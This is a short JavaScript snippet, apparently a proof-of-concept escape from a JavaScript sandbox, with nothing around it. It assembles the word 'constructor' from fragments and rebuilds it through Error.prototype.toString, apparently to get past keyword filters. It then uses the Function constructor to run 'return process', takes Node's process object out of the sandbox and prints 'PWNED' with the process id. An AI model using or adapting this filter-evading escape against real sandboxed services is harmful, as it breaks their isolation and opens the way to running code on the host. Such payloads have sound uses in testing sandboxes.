'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
console.log('PWNED', fn[Reflect.apply(new Error('').toString, { name: w, message: '' }, [])]('return process')().pid);
